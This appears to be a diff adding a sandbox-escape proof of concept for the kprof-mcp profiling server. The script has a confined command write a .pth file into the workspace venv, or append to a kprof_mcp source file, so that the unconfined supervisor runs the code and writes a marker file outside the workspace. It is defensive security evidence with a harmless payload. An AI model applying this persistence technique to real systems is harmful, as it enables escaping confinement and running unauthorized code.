@@ -1,0 +1,114 @@
+"""Tenth probe (issue 38), P10-1: a command rewrites the server's own interpreter or kprof's source when they
+lie inside the workspace (README's quick start: ``.venv/bin/kprof-mcp --workspace .`` from the checkout; or a
+project whose own ``.venv`` holds kprof-mcp), and the next unconfined supervisor runs it.
+
+The command's working directory defaults to the workspace root, which is granted entry by entry: every entry
+but ``out/``, ``.git`` and ``docs/kernels`` is writable whole, ``.venv/`` and ``kprof_mcp/`` included. The
+command writes a ``.pth`` file into ``.venv``'s site-packages (or appends to ``kprof_mcp/lifeline.py``); every
+Python process started from that venv afterwards runs it at start-up, the sandbox's supervisor
+(``python -P -m kprof_mcp.sandbox``, unconfined, the server's user) first. The payload there writes a file
+outside the workspace.
+
+Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source]
+Prints SUCCEEDED (a file outside written by a process of the server's that is not confined) or BLOCKED.
+A fresh copy of kprof_mcp (the checkout's HEAD) and a fresh venv under /tmp; nothing of the checkout changed.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import anyio
+from mcp import Client, StdioServerParameters
+
+REPO = Path(__file__).resolve().parents[4]
+HOW = sys.argv[1] if len(sys.argv) > 1 else "pth"
+BASE = Path(f"/tmp/kp10-self-{os.getpid()}")
+WS, OUTSIDE, HOME = BASE / "ws", BASE / "outside", BASE / "home"
+PWNED = OUTSIDE / "PWNED.txt"
+SITE = f"lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
+
+ATTACK = f'''
+import os, sys
+ws = os.getcwd()
+payload = ("import os, sys; exec(\\"try:\\\\n open({str(PWNED)!r}, 'a').write('pid %d uid %d argv %r\\\\\\\\n' "
+           "% (os.getpid(), os.getuid(), sys.argv))\\\\nexcept OSError: pass\\")")
+try:
+    open({str(OUTSIDE / "direct.txt")!r}, "w").write("x")
+    print("control: wrote outside directly (NOT confined?)")
+except OSError as e:
+    print("control: outside write refused:", e)
+if {HOW!r} == "pth":
+    target = os.path.join(ws, ".venv", {SITE!r}, "zz_kp10.pth")
+    with open(target, "w") as f:
+        f.write(payload + "\\n")
+else:
+    target = os.path.join(ws, "kprof_mcp", "lifeline.py")
+    with open(target, "a") as f:
+        f.write("\\n" + payload.replace("import os, sys; ", "import os, sys\\n") + "\\n")
+print("wrote", target)
+'''
+
+
+def setup() -> None:
+    for d in (WS / "kp10", OUTSIDE, HOME):
+        d.mkdir(parents=True, exist_ok=True)
+    # the checkout's committed kprof_mcp and kernels, as a workspace that is the checkout (README quick start)
+    tar = subprocess.run(
+        ["git", "-C", str(REPO), "archive", "HEAD", "kprof_mcp", "kernels", "pyproject.toml"],
+        capture_output=True,
+        check=True,
+    ).stdout
+    subprocess.run(["tar", "-x", "-C", str(WS)], input=tar, check=True)
+    base_py = Path(sys.base_prefix) / "bin" / "python3"
+    subprocess.run([str(base_py), "-m", "venv", "--without-pip", str(WS / ".venv")], check=True)
+    # kprof_mcp from the workspace (an editable install's effect), its dependencies from the checkout's venv
+    (WS / ".venv" / SITE / "_kp10_path.pth").write_text(f"{WS}\n{REPO / '.venv' / SITE}\n")
+    (WS / "kp10" / "selfmod.py").write_text(ATTACK)
+    (WS / "kp10" / "hello.py").write_text("print('hello')\n")
+
+
+async def main() -> str:
+    env = {
+        "HOME": str(HOME),
+        "KPROF_FORCE_CPU": "1",
+        "PATH": os.environ["PATH"],
+        "KPROF_LOCK_DIR": str(BASE / "locks"),
+    }
+    params = StdioServerParameters(
+        command=str(WS / ".venv" / "bin" / "python"),
+        args=["-m", "kprof_mcp", "--workspace", str(WS), "--allow-commands"],
+        env=env,
+        cwd=str(WS),
+    )
+    async with Client(params) as c:
+        for argv in (["python", "kp10/selfmod.py"], ["python", "kp10/hello.py"]):
+            r = await c.call_tool("profile_command", {"command": argv, "mode": "event", "wait_s": 50})
+            sc = r.structured_content or {}
+            while sc.get("status") in ("queued", "running"):
+                r = await c.call_tool("get_profile", {"job_id": sc["job_id"], "wait_s": 20})
+                sc = r.structured_content or {}
+            text = "\n".join(getattr(x, "text", "") for x in r.content or [])
+            print(f"--- {argv}: error={r.is_error} status={sc.get('status')}\n{text[:1500]}", flush=True)
+    return PWNED.read_text() if PWNED.exists() else ""
+
+
+if __name__ == "__main__":
+    setup()
+    try:
+        got = anyio.run(main)
+        print("outside file written by:\n" + (got or "(nothing)"))
+        # the supervisor's argv: -m POLICY.json -- ... (sys.argv[0] is still '-m' while site runs .pth files)
+        unconfined = [ln for ln in got.splitlines() if "kprof-policies-" in ln and "'--'" in ln]
+        print(
+            "RESULT selfws_" + HOW + ":",
+            "SUCCEEDED (the unconfined supervisor ran the command's code)" if unconfined else "BLOCKED",
+        )
+    finally:
+        time.sleep(1)
+        shutil.rmtree(BASE, ignore_errors=True)
